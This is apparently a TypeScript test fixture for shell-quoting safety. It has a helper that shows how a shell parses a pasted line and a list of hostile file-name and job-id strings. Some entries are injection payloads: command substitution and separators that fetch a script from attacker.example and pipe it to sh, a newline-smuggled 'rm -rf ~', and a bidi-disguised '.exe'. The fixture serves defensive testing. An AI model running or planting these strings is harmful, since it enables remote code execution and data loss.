import { execFileSync } from 'node:child_process';

/** The words a shell reads from `line` (after `printf '%s\0'`): what a person pasting it would run. */
export function wordsParsedBy(shell: string, line: string): string[] {
  const out = execFileSync(shell, ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

/** No raw control, format or separator character: what is printed is what is seen. */
export const RAW_CONTROL = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

/** Words a file name or a job id may hold, each a trap for a shell that reads a pasted line. */
export const HOSTILE_WORDS = [
  'in/my invoices/a.pdf',
  "O'Brien's payslip.pdf",
  'x/$(curl -s http://attacker.example/i | sh).pdf',
  'job_7f3a; curl -s http://attacker.example/i | sh #',
  'line one\nrm -rf ~\n.pdf',
  'tab\there\r.pdf',
  'bidi \u202Efdp.exe',
  '`id`*?[a]{b,c}~!&|<>"\\',
  'café.pdf',
  '',
  '-starts-with-a-dash',
];
